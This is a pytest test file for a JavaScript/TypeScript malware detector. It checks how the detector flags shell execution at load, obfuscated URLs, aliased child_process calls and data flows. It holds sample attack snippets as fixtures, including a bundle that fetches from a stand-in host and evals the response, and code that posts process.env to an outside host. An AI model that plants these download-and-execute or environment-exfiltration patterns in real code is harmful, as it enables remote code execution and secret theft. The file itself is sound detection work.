from __future__ import annotations

import msgspec
import pytest

from adapters.sigil.local.code.facts import Behaviour, CodeFacts, Fact
from adapters.sigil.local.code.javascript import javascript_facts


def facts_of(code: str, path: str = "index.js") -> CodeFacts:
    return javascript_facts(path, code.encode())


def first(found: CodeFacts, behaviour: Behaviour) -> Fact:
    return next(fact for fact in found.facts if fact.behaviour is behaviour)


def ways(found: CodeFacts) -> set[tuple[Behaviour, Behaviour]]:
    return {(flow.source.behaviour, flow.sink.behaviour) for flow in found.flows}


LOADING = [
    "RUN",
    "(function () { RUN })();",
    "(() => { RUN })();",
    "!function () { RUN }();",
    "function go() { RUN } go();",
    "const go = async () => { RUN }; go().catch(() => {});",
    "setTimeout(() => { RUN }, 1000);",
    "Promise.resolve().then(() => { RUN });",
    "class A { constructor() { this.go(); } go() { RUN } } new A();",
    "const t = { go() { RUN } }; t.go();",
    "[1].forEach(function (n) { RUN });",
    "process.on('exit', () => { RUN });",
]


@pytest.mark.parametrize("wrapping", LOADING)
def test_what_runs_at_load_is_marked(wrapping: str) -> None:
    """Code that is called while the module loads, directly or by what it calls, is marked as such."""
    code = wrapping.replace("RUN", "require('child_process').execSync('id');")
    assert first(facts_of(code), Behaviour.RUNS_SHELL).at_load


@pytest.mark.parametrize(
    "wrapping",
    [
        "module.exports = function () { RUN };",
        "export async function go() { RUN }",
        "class A { go() { RUN } } module.exports = A;",
        "button.addEventListener('click', () => { RUN });",
        "app.get('/x', (q, s) => { RUN });",
    ],
)
def test_what_waits_for_a_caller_is_not_marked(wrapping: str) -> None:
    """Code that only runs when somebody calls it is told, but not as running at load."""
    code = wrapping.replace("RUN", "require('child_process').execSync('id');")
    assert not first(facts_of(code), Behaviour.RUNS_SHELL).at_load


FOLDED = [
    "'https://e' + '.invalid/x'",
    "`https://${'e'}.invalid/x`",
    r"'\x68\x74\x74\x70\x73://e.invalid/\u0078'",
    "['https:', '', 'e.invalid', 'x'].join('/')",
    "'x/dilavni.e//:sptth'.split('').reverse().join('')",
    "atob('aHR0cHM6Ly9lLmludmFsaWQveA==')",
    "Buffer.from('68747470733a2f2f652e696e76616c69642f78', 'hex').toString('utf8')",
    "'https://e.' + String.fromCharCode(105, 110, 118, 97, 108, 105, 100) + '/x'",
    "'https://E.invalid/x'.toLowerCase()",
    "['no', 'https://e.invalid/x'][1]",
    "({ to: 'https://e.invalid/x' }).to",
    "unescape('https%3A%2F%2Fe.invalid/x')",
    "'https://q.invalid/x'.replace('q', 'e')",
]


@pytest.mark.parametrize("expression", FOLDED)
def test_constants_are_put_together(expression: str) -> None:
    """An address put together from constants is read as it will be at run time."""
    assert first(facts_of(f"fetch({expression});"), Behaviour.DOWNLOADS).detail == "https://e.invalid/x"


@pytest.mark.parametrize(
    "code",
    [
        "const run = require('child_process').execSync; run('id');",
        "const { execSync: run } = require('child_process'); run('id');",
        "import * as cp from 'node:child_process'; cp['exec' + 'Sync']('id');",
        "import cp from 'child_process'; const alias = cp; alias.execSync('id');",
        "const cp = __importStar(require('child_process')); cp.default.execSync('id');",
        "const r = require; r('child_process').execSync('id');",
        "const run = require('util').promisify(require('child_process').exec); run('id');",
        "require('child_process').execSync.call(null, 'id');",
        "process.mainModule.require('child_process').execSync('id');",
        "import('child_process').then(cp => cp.execSync('id'));",
        "(async () => { const { execSync } = await import('child_process'); execSync('id'); })();",
    ],
)
def test_names_lead_to_what_they_stand_for(code: str) -> None:
    """Imports, aliases, destructuring and computed members are followed to the function that is meant."""
    assert first(facts_of(code), Behaviour.RUNS_SHELL).detail == "id"


@pytest.mark.parametrize("path", ["a.ts", "a.mts", "a.cts", "a.tsx"])
def test_typed_code_is_read(path: str) -> None:
    """TypeScript is read as well, its types set aside."""
    code = "import { execSync } from 'child_process';\nconst c: string = 'id' as string;\nexecSync(c!);"
    assert first(facts_of(code, path), Behaviour.RUNS_SHELL) == Fact(
        behaviour=Behaviour.RUNS_SHELL, line=3, snippet="execSync(c!)", detail="id", at_load=True
    )


def test_flow_typed_code_is_read() -> None:
    """Plain JavaScript with type annotations is read as typed code."""
    found = facts_of("const c: string = 'id'; require('child_process').execSync(c);")
    assert first(found, Behaviour.RUNS_SHELL).detail == "id"
    assert found.parsed


def test_an_everyday_file_is_not_even_parsed() -> None:
    """A file that names nothing telling has its modules told and no facts."""
    found = facts_of("const a = require('path'); export * from './b'; module.exports = (x) => x + 1;")
    assert found == CodeFacts(imports=("./b", "path"))


def test_what_is_no_code_says_so() -> None:
    """A file that can't be understood is marked, rather than passed as clean."""
    assert not facts_of("eval <<<< )))) }}}} this is ((( no program at all ]]]] %%%%").parsed


def test_telling_strings_are_collected() -> None:
    """Strings that are telling by themselves are told, those within decoded text too."""
    hook = "https://discord.com/api/webhooks/1/inert"
    assert facts_of(f"const u = '{hook}';").strings == (hook,)
    encoded = "aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMS9pbmVydA=="
    assert hook in facts_of(f"const u = atob('{encoded}');").strings


def test_work_is_bounded_on_deep_nesting() -> None:
    """Thousands of nested or chained operators neither fail nor hide what stands beside them."""
    deep = "(" * 3000 + "1" + ")" * 3000
    chain = "+".join(["'a'"] * 5000)
    found = facts_of(f"const a = {deep};\nconst b = {chain};\nrequire('child_process').execSync('id');")
    assert first(found, Behaviour.RUNS_SHELL).detail == "id"


def test_a_file_over_the_limit_says_so() -> None:
    """A file too large to be analysed is marked, not passed as clean."""
    assert not javascript_facts("big.js", b"eval(x);" + b" " * 12_000_001).parsed


def test_minified_bundle_is_read_where_it_is_telling() -> None:
    """In a bundle of a megabyte, what a module within it does is found and followed."""
    filler = "".join(f"function f{n}(e,t){{return e.a{n}+t.b*{n}}}" for n in range(20_000))
    evil = (
        "var q=require('https');q.get('https://e.invalid',function(e){e.on('data',function(t){eval(t.toString())})});"
    )
    found = facts_of("!function(){" + filler + evil + "}();")
    assert ways(found) == {(Behaviour.DOWNLOADS, Behaviour.RUNS_CODE)}
    assert all(fact.at_load for fact in found.facts)


DECODERS = [
    "var _0x1a = ['id']; function _0x2b(i) { i = i - 0x10; return _0x1a[i]; } run(_0x2b(0x10));",
    "var t = ['aWQ=']; const get = n => atob(t[n - 0x5]); run(get('0x5'));",
    "function plain(h) { return Buffer.from(h, 'hex').toString(); } run(plain('6964'));",
]


@pytest.mark.parametrize("code", DECODERS)
def test_small_decoders_are_evaluated_for_constants(code: str) -> None:
    """A function that looks strings up or decodes them is followed to the string that a constant argument gives."""
    found = facts_of("const run = require('child_process').execSync;" + code)
    assert first(found, Behaviour.RUNS_SHELL).detail == "id"


def test_properties_carry_their_data() -> None:
    """What is put into an object's property goes where the object goes."""
    code = "const o = {};\no.all = process.env;\nrequire('axios').post('https://e.invalid', JSON.stringify(o));"
    assert (Behaviour.READS_ENVIRONMENT, Behaviour.SENDS) in ways(facts_of(code))


def test_encoding_tells_only_of_own_data() -> None:
    """Encoding a header is everyday; encoding what was read from the machine is told."""
    everyday = "fetch('https://e.invalid', {method: 'POST', headers: {a: btoa(user + ':' + word)}});"
    telling = "fetch('https://e.invalid', {method: 'POST', body: btoa(JSON.stringify(process.env))});"
    assert ways(facts_of(everyday)) == set()
    assert (Behaviour.ENCODES, Behaviour.SENDS) in ways(facts_of(telling))


HOSTILE = [
    b"let a = [1, 2]; " + b"a = a.concat(a); a = [...a, ...a]; " * 60 + b"eval(a.join());",
    b"let s = 'aaaaaaaa'; " + b"s = s.replaceAll('a', s); s += s; " * 40 + b"eval(s);",
    b"eval('\\ud83d' + String.fromCharCode(1e999, 55357, 0/0) + 'x'.slice(1e400).charAt(-1) + (1 << 1e300));",
    b"require('fs').chmodSync('a', '999'); eval(1e308 * 10 + 5 % 0 - 1 / 0);",
    b"eval(a" + b"[b[c=" * 400 + b"1" + b"]]" * 400 + b");",
]


@pytest.mark.parametrize(
    "data", [b"", b"#!/usr/bin/env node\n", b"\x00\xff\xfe eval(", b"eval(" * 5000, b"`${" * 3000, *HOSTILE]
)
def test_any_bytes_are_survived(data: bytes) -> None:
    """No input makes the analysis fail, and what it answers can be written as JSON."""
    found = javascript_facts("a.js", data)
    assert msgspec.json.decode(msgspec.json.encode(found), type=CodeFacts) == found


NEVER_ENDING = (
    "n stringify concat method . ) / { ( ( k ; ' { + . ( require ) https : ) os r ) function stringify "
    "exports ( ; : ; DEV_API_KEY async ' ; out ) d . ; invalid ( = ' } C test ' require ) in . { . : exec . "
    "opsys ' : n sh = length ; catch ) ' ) ' const ; ; ] on setInterval ) = postinstall . require json ( "
    "curl if ' = f sh . const ' > JSON ' + . execSync ] . KEY , js { ) [ . ; } ) ) c FormData const [ ) "
    "npoint ( ) require ; ; . / ) ' ) execSync , 0x10 fs / process , . : ] ) } ; ( . [ require ; ' window ) "
    "c . + s io , . = i ( - ( https ) process ( . const k | request 60 stringify ; . opsys ; { ' ' qs ] env "
    ") ) exec ) . = ( env ' utf8 = writeFileSync = \\ = ) out curl a 6 ' module os ) ( ) { ) api . form . ) "
    "name . require ( : cb c ( ) ; end const ) return { ( $ ' spawn ; o * function"
)


def test_a_parser_that_does_not_end_is_stopped() -> None:
    """Words on which the grammar's error recovery runs in circles end at a bound on its steps."""
    assert facts_of(NEVER_ENDING, "a.tsx").imports == ()
